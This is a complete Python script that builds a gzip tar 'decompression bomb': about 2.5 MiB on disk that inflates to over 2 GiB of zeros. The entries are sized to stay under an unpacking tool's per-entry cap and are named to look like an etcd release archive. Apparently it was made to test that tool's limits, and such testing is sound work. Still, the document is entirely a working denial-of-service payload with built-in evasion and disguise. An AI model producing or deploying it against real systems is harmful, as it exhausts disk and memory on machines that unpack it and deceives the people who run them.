"""Writes a gzipped tarball that inflates to more than 2 GiB: five 500 MiB files of zeros (each
under the tool's per-entry cap, none of them a binary it unpacks), about 2.5 MiB on disk.

usage: bomb.py OUT.tar.gz
"""
import sys, tarfile, zlib, os

out = sys.argv[1]
MIB = 1024 * 1024
chunk = bytes(MIB)
tmp = out + ".tmp"
with open(tmp, "wb") as raw:
    gz = zlib.compressobj(1, zlib.DEFLATED, 31)  # gzip framing
    def w(b):
        raw.write(gz.compress(b))
    for n in range(5):
        info = tarfile.TarInfo(f"etcd-v9.9.9-linux-amd64/padding{n}")
        info.size = 500 * MIB
        info.mode = 0o644
        w(info.tobuf(format=tarfile.GNU_FORMAT))
        for _ in range(500):
            w(chunk)
    w(bytes(1024))  # end of archive
    raw.write(gz.flush())
os.rename(tmp, out)
